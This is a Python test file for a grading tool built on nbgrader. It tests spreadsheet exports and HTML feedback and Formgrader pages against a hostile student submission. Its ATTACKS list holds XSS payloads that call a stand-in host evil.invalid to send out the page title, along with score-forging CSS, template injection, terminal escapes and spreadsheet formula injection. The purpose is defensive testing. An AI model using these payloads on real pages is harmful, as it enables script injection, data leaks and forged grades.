"""What an instructor gets of a class, and what its students receive: tables that can be imported, figures that are
right, and pages that nothing a submission printed or wrote can touch.

The pages are those that nbgrader makes with the settings of nbgrader_config.py, opened in a real Chromium; where one
could rely on its policy alone, it is opened without.
"""

import copy
import csv
import io
import json
import shutil
import time
import warnings
from datetime import UTC, datetime
from mimetypes import guess_type
from pathlib import Path
from statistics import correlation

import access
import nbformat
import pytest
from markupsafe import escape

from grading import autograded, report
from grading.course import Course
from grading.folders import Folders
from grading.judge import Outcome, Ran, Verdict
from grading.rebuild import Finding
from grading.record import Book, Entry, Grade, marks
from grading.report import harmless, tables
from grading.report.feedback import feedback
from grading.report.items import items, most_missed
from grading.report.page import bars, spread
from grading.report.scores import outline, scored
from grading.run import Walls
from labs import LABS, ROOT, hints, wrong_solutions

pytestmark = pytest.mark.timeout(120)  # 12 seconds on a quiet core

LAB = "lab1"
NOW = datetime(2026, 1, 15, 10, tzinfo=UTC)
EVIL = "http://evil.invalid"
CALL = f"fetch('{EVIL}/'+document.title)"
#: What a hostile answer tries: to run something, to ask a server, to hide the score, to forge another.
ATTACKS = [
    f"<script>document.title='owned';{CALL}</script>",
    f'<img src="{EVIL}/picture.png" onerror="{CALL}">',
    f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x></svg>",
    "<style>* { display: none } body::before { content: 'Score 14 of 14' }</style>",
    '<div style="position:fixed;inset:0;background:#fff;z-index:99">Score 14 of 14</div>',
    f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data={EVIL}/object></object><embed src={EVIL}/embed><video src={EVIL}/v autoplay></video>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<input autofocus onfocus={CALL}><form action={EVIL}><button>go</button></form>",
    f"<base href={EVIL}/><link rel=stylesheet href={EVIL}/x.css><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"[look here](javascript:{CALL}) [and here](data:text/html,<script>{CALL}</script>) <javascript:{CALL}>",
    f'![a picture]({EVIL}/tracker.png) [a][b]\n\n[b]: {EVIL} "\' onmouseover={CALL}"',
    f"</pre></code></div></section></main></body></html><script>{CALL}</script>",
    f"--> ]]> </textarea></title></style><script>{CALL}</script>",
    f"&#60;script&#62;{CALL}&#60;/script&#62; &lt;script&gt;{CALL}&lt;/script&gt; &#x202E;",
    "$\\href{javascript:" + CALL + "}{x}$ \\require{html} $$\\style{position:fixed}{x}$$",
    "{{ 7 * 191 }} {% for cell in nb.cells %}{{ cell }}{% endfor %} ${7*191}",
    "# lab1 (Score: 14.0 / 14.0)\n\nScore 14 of 14\n==============",
    "\x1b[2J\x1b[1;1HScore 14 of 14 \x1b]8;;" + EVIL + "\x07link\x1b]8;;\x07 \x1b]0;owned\x07 \x9b31m \x00 \x7f",
    "\u202e41 fo 41 erocS\u202c \u2066\u2067 \u200f",
    "Z" + "\u0335\u0489\u0336" * 2_000,
    "\ud800 lone",
    "|" * 300 + "\n" + "|-" * 150,
]
HOSTILE = "\n\n".join(ATTACKS)


@pytest.fixture(scope="module")
def lab1():
    return Course(LAB)


def outcome(course, student, broken=(), status="ok", sentence="Every answer cell was run.", answers=None, **more):
    """A judged submission that holds every property but ``broken``: {property: sentence}."""
    broken = dict.fromkeys(broken, "it returned 1.") if not isinstance(broken, dict) else broken
    props = [slot.prop for slot in course.slots if slot.prop]
    verdicts = {name: Verdict(name not in broken, broken.get(name, "")) for name in props}
    if answers is None:
        answers = {slot.grade_id: f"{slot.source}\n# done" for slot in course.slots if slot.answer}
    return Outcome(student, status, sentence, verdicts, answers, more.pop("ran", {}), more.pop("findings", []), **more)


def entry(course, found, written=2.0, names=("", "", "", ""), penalty=0.0):
    """The same as the gradebook holds it; ``written`` are a person's points, None where nobody has read it yet."""
    grades = {}
    for slot in course.slots:
        if slot.manual:
            grades[slot.grade_id] = Grade(slot.grade_id, None, written, None, written is None)
        elif slot.graded:
            points = slot.points if found.verdicts[slot.prop].passed else 0.0
            grades[slot.grade_id] = Grade(slot.grade_id, points, None, None, False)
    return Entry(found.student, *names, found, grades, penalty, 3600.0 if penalty else 0.0, NOW.replace(tzinfo=None))


def rows(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# -- tables ------------------------------------------------------------------------------------------------------------


def test_the_table_of_a_class_has_score_status_sentence_and_the_points_of_each_task(lab1):
    ada = entry(lab1, outcome(lab1, "ada", ["on-time", "empty-slices"]), names=("Ada", "L.", "ada@example.org", ""))
    zoe = entry(lab1, outcome(lab1, "zoe", answers={}, status="no notebook", sentence="There is none."), None)
    first, second = rows(tables.scores(outline(lab1), scored(lab1, [zoe, ada])))
    assert (first["student"], first["score"], first["most"], first["status"]) == ("ada", "12.5", "14", "ok")
    assert {name: first[name] for name in ("task 1", "task 2", "task 5", "task 6")} == {
        "task 1": "2", "task 2": "1.5", "task 5": "3", "task 6": "2"
    }  # fmt: skip
    assert (first["on-time"], first["empty-slices"], first["no-traffic"], first["explain"]) == ("0", "0", "0.5", "2")
    assert (second["status"], second["sentence"], second["task 6"]) == ("no notebook", "There is none.", "")
    assert second["waits_for_a_person"] == "explain"


@pytest.mark.parametrize("lab", LABS)
def test_the_parts_of_a_lab_are_its_graded_cells_and_every_point_belongs_to_a_task(lab):
    course = Course(lab)
    about = outline(course)
    assert {part.cell: part.most for part in about.parts} == course.points
    assert about.title.startswith(f"Lab {lab[3:]}: ")
    if lab != "lab0":
        assert all(part.task in about.tasks for part in about.parts)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+41 44", "'+41 44"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'=1"),
        ("\r\n =1", "'=1"),
        ("＝1+1", "'＝1+1"),
        ('"=1', "\"'=1"),
        ("it gave 3; =HYPERLINK(1)", "it gave 3; '=HYPERLINK(1)"),  # for a spreadsheet that parts cells at semicolons
        ("it gave [1, -2], not a=b", "it gave [1, -2], not a=b"),
        ("a\x1b[31mred\u202e", "ared�"),
        ("Zoë O'Brien-Łuk", "Zoë O'Brien-Łuk"),
    ],
)
def test_no_cell_of_a_table_is_a_formula(text, cell):
    assert tables.harmless(text) == cell


def test_what_students_chose_is_no_formula_in_any_table(lab1, tmp_path):
    bad = '=HYPERLINK("http://evil.invalid")'
    one = entry(lab1, outcome(lab1, bad, {"on-time": bad}, bad, bad), names=(bad, "@b", "-c", "+d"), penalty=1.0)
    report.write(lab1, [one], tmp_path, Walls("bwrap"), NOW)
    for file in ("scores.csv", "properties.csv", "canvas.csv", "moodle.csv"):
        for row in csv.reader(io.StringIO((tmp_path / file).read_text(encoding="utf-8-sig"))):
            assert not [cell for cell in row if cell.lstrip()[:1] in tuple("=+-@")], (file, row)


def test_canvas_is_given_the_columns_of_its_own_export(lab1):
    ada = entry(lab1, outcome(lab1, "ada", ["on-time"]), 1.5, ("Ada", "Lovelace", "", "4711"), penalty=0.25)
    ben = entry(lab1, outcome(lab1, "ben"), 2.0, ("", "", "", "4711abc"))
    eve = entry(lab1, outcome(lab1, "Points Possible"))
    text = tables.canvas(outline(lab1), scored(lab1, [ada, ben, eve, entry(lab1, outcome(lab1, "cleo"), None)]))
    lines = text.splitlines()
    assert lines[0] == "Student,ID,SIS User ID,SIS Login ID,Section,lab1"
    assert lines[1] == "    Points Possible,,,,,14"
    # Canvas would read 4711 in 4711abc, a user name as a name, and a row that begins with the words as the second row.
    assert sorted(lines[2:]) == [
        '"Lovelace, Ada",4711,,ada,,12.75',
        "(ben),,4711abc,ben,,14",
        "(points-possible),,,Points Possible,,14",
    ]
    assert "cleo" not in text  # waits for a person: Canvas would overwrite what it has


def test_moodle_is_given_what_it_finds_students_by_a_number_and_why(lab1):
    ada = entry(lab1, outcome(lab1, "ada", ["on-time"]), 2.0, ("Ada", "L.", "ada@example.org", "17"), penalty=1)
    ben = entry(lab1, outcome(lab1, "ben", {"on-time": "<b>"}))
    zoe = entry(lab1, outcome(lab1, "zoe", [slot.prop for slot in lab1.slots if slot.prop]), 0.0)
    found = rows(tables.moodle(outline(lab1), scored(lab1, [ada, ben, zoe])))
    assert ",".join(found[0]) == "Username,ID number,Email address,First name,Last name,lab1,lab1 feedback"
    by_name = {row["Username"]: row for row in found}
    assert (by_name["ada"]["ID number"], by_name["ada"]["lab1"]) == ("17", "12.5")
    assert by_name["ada"]["lab1 feedback"] == "Points lost: on-time 0 of 0.5. Late: 1 taken off."
    assert (
        by_name["ben"]["lab1 feedback"] == "Points lost: on-time 0 of 0.5."
    )  # shown as HTML: none of a student's words
    assert (by_name["zoe"]["lab1"], by_name["zoe"]["lab1 feedback"]) == ("0", "No points.")


# -- figures -----------------------------------------------------------------------------------------------------------


def a_class(course, wanted):
    """One submission for each set of broken properties."""
    return scored(course, [entry(course, outcome(course, f"s{i:03}", broken)) for i, broken in enumerate(wanted)])


def test_difficulty_is_the_share_that_holds_and_discrimination_the_correlation_with_the_rest(lab1):
    props = [slot.prop for slot in lab1.slots if slot.prop]
    wanted = [[name for k, name in enumerate(props) if (i * (k + 3)) % 7 < k % 5] for i in range(40)]
    class_ = a_class(lab1, wanted)
    found = {item.part.name: item for item in items(outline(lab1).parts, class_)}
    worth = {part.name: part.most for part in outline(lab1).parts}
    for name in props:
        held = [float(name not in broken) for broken in wanted]
        rest = [sum(worth[other] for other in props if other not in broken and other != name) for broken in wanted]
        item = found[name]
        assert item.difficulty == sum(held) / 40
        assert item.discrimination == (pytest.approx(correlation(held, rest)) if 0 < sum(held) < 40 else None)


def test_blank_and_unreadable_submissions_do_not_make_every_check_look_good(lab1):
    blank = {slot.grade_id: slot.source for slot in lab1.slots if slot.answer}
    every = [slot.prop for slot in lab1.slots if slot.prop]
    entries = [entry(lab1, outcome(lab1, f"z{i}", every, "blank", answers=blank)) for i in range(20)]
    entries += [entry(lab1, outcome(lab1, f"u{i}", every, "unreadable", answers={})) for i in range(20)]
    entries += [entry(lab1, outcome(lab1, f"a{i}", ["on-time"] if i % 2 else [])) for i in range(20)]
    found = {item.part.name: item for item in items(outline(lab1).parts, scored(lab1, entries))}
    assert (found["on-time"].asked, found["on-time"].held) == (20, 10)
    assert [item.part.name for item in most_missed(list(found.values()))] == ["on-time"]


def test_a_check_that_nobody_holds_or_that_turns_things_round_is_named(lab1):
    props = [slot.prop for slot in lab1.slots if slot.prop]
    nobody, round_ = props[0], props[1]
    wanted = [[nobody, *([round_] if i % 2 else props[2:8])] for i in range(40)]
    found = {item.part.name: item for item in items(outline(lab1).parts, a_class(lab1, wanted))}
    assert found[nobody].remark == "Nobody holds it. Is the task clear, and the check right?"
    assert found[round_].discrimination < -0.9
    assert found[round_].remark.startswith("Those who hold it do worse in the rest.")
    assert found[props[10]].remark == ""


def test_the_case_that_most_met_is_told_when_it_is_more_than_one(lab1):
    said = ["it returned 2.", "it returned 2.", "it returned 3."]
    class_ = a_class(lab1, [{"on-time": text} for text in said])
    item = next(item for item in items(outline(lab1).parts, class_) if item.part.name == "on-time")
    assert (item.case, item.cases) == ("it returned 2.", 2)


def test_every_score_is_in_one_bar(lab1):
    scores = [0, 0.5, 1, 6.75, 13, 13.5, 14, 14]
    found = bars(scores, 14)
    assert [(bar.low, bar.high) for bar in found] == [(k, k + 1) for k in range(13, -1, -1)]
    assert [bar.number for bar in found] == [4, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 1, 2]
    assert sum(bar.number for bar in bars([0, 50, 99.5, 100], 100)) == 4
    assert spread(scores, 14) == "Half of the 8 scores lie between 0.88 and 13.62 of 14; the median is 9.88."
    assert bars([2], 0.5)[0].number == 1  # extra points


# -- pages -------------------------------------------------------------------------------------------------------------


class Graded:
    """A course's folder after grading: gradebook and autograded copies, and nbgrader's own settings."""

    def __init__(self, root):
        self.root = root
        for name in ("labs", "solutions", "grading"):
            (root / name).symlink_to(ROOT / name)
        shutil.copy(ROOT / "nbgrader_config.py", root)
        self.course = Course(LAB, root)
        self.folders = Folders(root)

    def record(self, *found):
        from nbgrader.api import Gradebook

        with Gradebook(self.folders.db_url, self.folders.course_id) as book:
            book.add_assignment(LAB)
            book.add_notebook(LAB, LAB)
            for slot in self.course.slots:
                kind = "code" if slot.code else "markdown"
                if slot.graded:
                    book.add_grade_cell(slot.grade_id, LAB, LAB, max_score=slot.points, cell_type=kind)
                if slot.answer:
                    book.add_solution_cell(slot.grade_id, LAB, LAB)
        with Book(self.folders.db_url, self.folders.course_id, LAB, self.course.points) as book:
            for one in found:
                book.write(one.student, marks(one, self.course.slots, NOW.replace(tzinfo=None)), None)
                folder = self.folders.autograded(LAB, one.student)
                autograded.write(self.course, one, folder, b"2026-01-15 10:00:00 UTC", 0o644, b"of the student")
            book.commit()

    def generate_feedback(self):
        """As Formgrader's button does it."""
        from nbgrader.apps.api import NbGraderAPI

        done = NbGraderAPI(config=self.folders.config).generate_feedback(LAB, force=True)
        assert done["success"], done["log"]
        for page in self.root.glob(f"gradebook/feedback/*/{LAB}"):  # without it release_feedback finds no student
            assert (page / "submission_secret.txt").read_bytes() == b"of the student"

    def feedback(self, student):
        return self.folders.feedback(LAB, student) / f"{LAB}.html"

    def formgrader(self, student):
        """The page on which an instructor marks this submission, as Formgrader's server makes it."""
        from nbconvert.exporters import HTMLExporter
        from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

        app = FormgradeExtension(load_cwd_config=False)
        app.root_dir = str(self.root)
        app.initialize([], root=str(self.root))
        resources = {
            "assignment_id": LAB,
            "notebook_id": LAB,
            "submission_id": "s1",
            "index": 0,
            "total": 1,
            "base_url": "",
            "student": student,
            "last_name": ATTACKS[0],
            "first_name": ATTACKS[1],
            "notebook_path": f'{student}"><script>{CALL}</script>',
        }
        path = self.folders.autograded(LAB, student) / f"{LAB}.ipynb"
        return HTMLExporter(config=app.config).from_filename(str(path), resources=resources)[0]


def hostile(course):
    """A submission that writes its attacks into every place that is its own."""
    answers = {s.grade_id: f"{s.source}\nx = '''{HOSTILE}'''" if s.code else HOSTILE for s in course.slots if s.answer}
    broken = [f"it returned {HOSTILE!r}.", f"it stopped with E: {HOSTILE}\nHint: {ATTACKS[0]}", HOSTILE]
    props = [slot.prop for slot in course.slots if slot.prop]
    ran = {
        number: Ran(HOSTILE, (HOSTILE, ATTACKS[number % len(ATTACKS)]), HOSTILE)
        for number, slot in enumerate(course.slots)
        if slot.code and not slot.prop
    }
    return outcome(
        course, "mallory", {name: broken[k % 3] for k, name in enumerate(props) if k % 2}, "killed",
        ATTACKS[12], answers, ran=ran, findings=[Finding("tags", text) for text in ATTACKS], learner=ATTACKS[0],
    )  # fmt: skip


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    graded = Graded(tmp_path_factory.mktemp("course"))
    course = graded.course
    blank = {slot.grade_id: slot.source for slot in course.slots if slot.answer}
    every = dict.fromkeys((slot.prop for slot in course.slots if slot.prop), "there is no code in the answer cell yet.")
    with warnings.catch_warnings(), pytest.MonkeyPatch.context() as patched:
        warnings.simplefilter("ignore")  # nbgrader's own
        patched.setattr("nbgrader.api.get_alembic_version", lambda: "")  # a program of three seconds tells it
        graded.record(
            outcome(course, "ada"),
            outcome(course, "ben", {"on-time": "a flight with a delay of 15 min is 'good'."}),
            outcome(course, "zoe", every, "blank", answers=blank),
            hostile(course),
        )
        graded.generate_feedback()
        graded.marked = graded.formgrader("mallory")
    return graded


def text(path):
    return path.read_text(encoding="utf-8")


def test_the_feedback_explains_each_lost_point_by_its_property_with_its_hints(graded, lab1):
    page = text(graded.feedback("ben"))
    told = hints(LAB)[0]["on-time"]
    for sentence in (
        told["property"],
        "a delay of 15 min is &#39;good&#39;.",
        "0 of 0.5 points",
        "11.5</strong> of 14",
    ):
        assert sentence in page, sentence
    for hint in told["hints"]:
        assert str(escape(hint)) in page
    assert page.count('<article class="lost">') == 1
    assert "Not marked yet: the answer of Task 6." in page
    zoes = text(graded.feedback("zoe"))
    assert zoes.count('<article class="lost">') == len(lab1.points)
    assert "There is no code in the answer cell yet." in zoes
    assert "found a case" not in zoes
    assert "time_s counts the seconds" in zoes  # a column's name stays as it is
    assert '<article class="lost">' not in text(graded.feedback("ada"))


def test_no_feedback_holds_a_hidden_check(graded, lab1):
    module = text(ROOT / "grading" / "checks" / f"{LAB}.py")
    ours = [line.strip() for line in module.split("\n") if line.startswith(("def ", "    raise NotTrue("))]
    for student in ("ada", "ben", "zoe", "mallory"):
        page = text(graded.feedback(student))
        for secret in (*ours, "require(", "HIDDEN", lab1.instructor.dice(LAB) or "nothing"):
            assert secret not in page, secret


@pytest.mark.parametrize("lab", LABS)
def test_a_wrong_solution_of_any_lab_is_told_its_properties_and_led_to_its_checks(lab):
    course = Course(lab)
    wrong = wrong_solutions(lab)[0]
    page = feedback(*with_marks(course, outcome(course, "ben", dict.fromkeys(wrong.breaks, "it returned 1."))))
    for name in wrong.breaks:
        told = hints(lab)[0][name]
        for words in (told["property"], *told["hints"]):
            assert str(escape(words)) in page, words
        assert page.count(f'id="check-{name}"') == 1
        assert page.count(f'href="#check-{name}"') == 1
    assert page.count('<article class="lost">') == len(wrong.breaks)


def with_marks(course, found):
    """The copy of a submission with points in it, as GetMarks leaves it."""
    nb = nbformat.reads(json.dumps(autograded.copied(course, found)), 4)
    nb, _ = harmless.Harmless().preprocess(nb, {})
    score = 0.0
    for cell in nb.cells:
        ours = cell.metadata.get("nbgrader", {})
        slot = next((slot for slot in course.slots if slot.graded and slot.grade_id == ours.get("grade_id")), None)
        if slot:
            points = 0.0 if slot.manual or not found.verdicts[slot.prop].passed else slot.points
            ours |= {"score": points, "points": slot.points, "waits": slot.manual}
            score += points
    most = sum(course.points.values())
    return nb, {"assignment": course.lab, "student": "ben", "score": score, "max_score": most, "late_penalty": 0}


def test_a_copy_that_plain_nbgrader_graded_shows_no_hidden_part_either(lab1):
    nb, about = with_marks(lab1, outcome(lab1, "ben"))
    for cell in nb.cells:
        if cell.source.startswith("with lab.check"):
            cell.source += '\n### BEGIN HIDDEN TESTS\nfrom grading.checks import lab1\nlab1.require("x", globals())\n'
            cell.source += "### END HIDDEN TESTS\n"
    assert "require" not in feedback(nb, about)
    for cell in nb.cells:
        cell.source = cell.source.replace("### END HIDDEN TESTS\n", "")
    assert "require" not in feedback(nb, about)


def test_a_gigabyte_on_one_line_makes_a_small_page_in_no_time(lab1):
    nb, about = with_marks(lab1, outcome(lab1, "ben", ["on-time"]))
    long = "<script>" * 12_500_000  # 100 MB: it is cut before anything else is done with it
    began = time.process_time()
    for cell in nb.cells:
        if cell.cell_type == "code" and not cell.metadata.get("nbgrader", {}).get("grade"):
            cell.outputs = [nbformat.from_dict({"output_type": "stream", "text": long})] * 10
    marked = [cell.metadata for cell in nb.cells]
    nb, _ = harmless.Harmless().preprocess(nb, {})
    for cell, metadata in zip(nb.cells, marked, strict=True):
        cell.metadata = metadata
    page = feedback(nb, about)
    assert time.process_time() - began < 3
    assert len(page) < 2_000_000
    assert "which is not shown" in page
    assert hints(LAB)[0]["on-time"]["property"] in page


@pytest.mark.parametrize("mark", ["[", "[a](", "*a **b ", "`" * 3 + "\n", "> ", "- ", "<!--", "|a", "![", "&#x202e;"])
def test_no_markdown_takes_long(mark):
    began = time.process_time()
    found = harmless.markdown(mark * (200_000 // len(mark)), theirs=True)
    assert time.process_time() - began < 3
    assert "<script" not in found
    assert "\u202e" not in found


def test_markdown_of_a_lab_is_still_markdown():
    found = harmless.markdown(
        "# A\n\n**b** `c<d` it's\n\n- e\n\n| f | g |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```", 3
    )
    for part in ("<h3>A</h3>", "<strong>b</strong> <code>c&lt;d</code> it's", "<li>e</li>", "<th>f</th>", "<td>2</td>"):
        assert part in found
    assert "<pre><code>x &lt; 1\n</code></pre>" in found


def test_outputs_keep_text_and_pictures_that_are_pictures():
    import base64

    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 20).decode()
    kept, _ = harmless.outputs(
        [
            {"output_type": "display_data", "data": {"text/html": ATTACKS[0], "text/plain": "<b>"}, "metadata": {}},
            {"output_type": "display_data", "data": {"image/svg+xml": ATTACKS[2]}, "metadata": {}},
            {"output_type": "display_data", "data": {"application/javascript": CALL}, "metadata": {}},
            {"output_type": "display_data", "data": {"image/png": '"><script>x</script>'}, "metadata": {}},
            {"output_type": "display_data", "data": {"image/png": png, "text/plain": "p"}, "metadata": {"width": '"'}},
            {"output_type": "stream", "text": ["a", "b"]},
        ],
        1_000,
    )
    assert [dict(one.get("data", {})) or one["text"] for one in kept] == [
        {"text/plain": "<b>"},
        {"image/png": png},
        "ab",
    ]
    assert not any(one.get("metadata") for one in kept)


# -- in a browser ------------------------------------------------------------------------------------------------------


ALIEN = "script, iframe, object, embed, form, input, link, base, video, style ~ style, [style], [onload], [onerror]"
COVERED = """(selector) => {
    const box = document.querySelector(selector).getBoundingClientRect();
    const there = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return there !== null && !document.querySelector(selector).contains(there);
}"""


def opened(new_page, path, **options):
    page = new_page(**options)
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.goto(path.as_uri())
    page.locator("main").wait_for()
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    return page, asked


@pytest.mark.browser
@pytest.mark.parametrize("policy", [True, False])
def test_a_page_with_hostile_content_runs_nothing_asks_nobody_and_shows_the_true_score(graded, new_page, policy):
    page, asked = opened(new_page, graded.feedback("mallory"), bypass_csp=not policy)
    held = sum(slot.points for k, slot in enumerate(s for s in graded.course.slots if s.prop) if not k % 2)
    assert page.locator("header .score").inner_text() == f"{held:g} of 14 points"
    assert page.locator("h1").all_inner_texts() == ["Lab 1: Availability from a request log"]
    assert page.title() == "Feedback: Lab 1: Availability from a request log"
    assert page.locator("header .score").is_visible()
    assert not page.evaluate(COVERED, "header .score")
    assert page.locator(ALIEN).count() == 0
    assert page.locator("a:not([href^='#'])").count() == 0
    assert page.locator("img").count() == 0
    assert asked == [graded.feedback("mallory").as_uri()]
    assert "1337" not in page.locator("main").inner_text()
    for hidden in ("\u202e", "\u2066", "\u200f", "\x1b", "\x9b", "\x00"):
        assert hidden not in page.content()
    # What hangs over the edges of a frame is cut off.
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.browser
def test_formgrader_runs_its_own_scripts_and_none_of_a_submission(graded, new_page):
    import nbgrader.server_extensions.formgrader as formgrader

    static = Path(formgrader.__file__).parent / "static"
    asked = []

    def answer(route):
        url = route.request.url
        asked.append(url)
        path = url.removeprefix("http://127.0.0.1:1/")
        if path == "page":
            route.fulfill(body=graded.marked, content_type="text/html; charset=utf-8")
        elif path.startswith("formgrader/static/") and (static / path[18:]).is_file():
            route.fulfill(body=(static / path[18:]).read_bytes(), content_type=guess_type(path)[0])
        else:
            route.fulfill(body="[]", content_type="application/json")  # its interface

    page = new_page()
    page.route("**/*", answer)
    page.goto("http://127.0.0.1:1/page")
    page.locator("#explain").first.wait_for(state="attached")
    page.wait_for_function("window.jQuery && jQuery.active === 0 && MathJax.loaded")
    assert page.title() == LAB
    assert {url.partition("/formgrader/")[0] for url in asked} <= {"http://127.0.0.1:1", "http://127.0.0.1:1/page"}
    assert page.locator("iframe, object, embed, form, base, video, svg, img, meta[http-equiv]").count() == 0
    assert page.locator("#notebook script, #notebook style, #notebook link, #notebook [onerror]").count() == 0
    assert page.locator("#notebook a[href]").count() == 0
    assert page.locator("nav script").count() == 0
    answered = page.locator(".nbgrader_cell", has=page.locator("#explain"))
    assert "look here (javascript:" in answered.inner_text()


@pytest.mark.browser
def test_the_same_submission_owns_the_page_that_nbgrader_makes_without_our_settings(graded, browser):
    """That the attacks are attacks, and that the tests above would see them."""
    from nbgrader.apps.api import NbGraderAPI

    config = copy.deepcopy(graded.folders.config)
    del config["GenerateFeedback"], config["HTMLExporter"]
    config.CourseDirectory.feedback_directory = "gradebook/stock"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert NbGraderAPI(config=config).generate_feedback(LAB, "mallory")["success"]
    stock = text(graded.root / "gradebook" / "stock" / "mallory" / LAB / f"{LAB}.html")
    context = browser.new_context()
    page = context.new_page()
    page.route("**/*", lambda route: route.abort())
    with page.expect_request(lambda asked: asked.url == f"{EVIL}/owned"):
        page.set_content(stock, wait_until="commit")
    context.close()


@pytest.fixture(scope="module")
def class_page(lab1, tmp_path_factory):
    """Sixteen submissions and one that is hostile in its name and in all that is told of it."""
    props = [slot.prop for slot in lab1.slots if slot.prop]
    entries = []
    for i in range(16):
        broken = {name: ATTACKS[i % 23] for k, name in enumerate(props) if (i * (k + 3)) % 11 < k % 4}
        status = "time-out" if i % 9 == 4 else "ok"
        found = outcome(lab1, f"s{i:02}", broken, status, "Something ran too long and was stopped.")
        entries.append(entry(lab1, found, None if i % 4 == 1 else 1.0, penalty=0.5 * (i % 8 == 3)))
    evil = hostile(lab1)._replace(student=ATTACKS[0].replace("/", "?"))
    entries.append(entry(lab1, evil, names=(ATTACKS[1], ATTACKS[3], "", "")))
    folder = tmp_path_factory.mktemp("report")
    return report.write(lab1, entries, folder, Walls("limits", (ATTACKS[0],)), NOW, ["noah", "<b>uma"])[0]


@pytest.mark.browser
def test_the_page_of_a_class_runs_nothing_whatever_students_are_called(class_page, new_page):
    page, asked = opened(new_page, class_page, bypass_csp=True)
    assert asked == [class_page.as_uri()]
    assert page.title() == "Lab 1: Availability from a request log: the class"
    assert page.locator(ALIEN).count() == 0
    assert page.locator("table").last.locator("tbody tr").count() == 17
    assert page.get_by_role("alert").inner_text().startswith("No walls.")
    assert page.locator(".names li").all_text_contents() == ["noah", "<b>uma"]
    assert page.locator("a").evaluate_all("(all) => all.map((one) => one.getAttribute('href'))") == [*report.TABLES]


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_both_pages_are_accessible_and_fit_a_phone(class_page, new_page, tmp_path, scheme):
    course = Course("lab0")  # the shortest
    ben = outcome(course, "ben", [slot.prop for slot in course.slots if slot.prop][:1], findings=[Finding("tags", "-")])
    (tmp_path / "feedback.html").write_text(feedback(*with_marks(course, ben)), encoding="utf-8")
    for path in (class_page, tmp_path / "feedback.html"):
        # axe is a script, which the pages' policy forbids.
        page, _ = opened(new_page, path, bypass_csp=True, color_scheme=scheme, viewport={"width": 390, "height": 800})
        assert access.violations(page) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_an_empty_class_has_a_page_too(lab1, tmp_path):
    files = report.write(lab1, [], tmp_path, Walls(""), NOW)
    assert [path.name for path in files] == ["class.html", *report.TABLES]
    assert "There is no submission yet." in text(files[0])
    assert not list(tmp_path.glob(".*"))
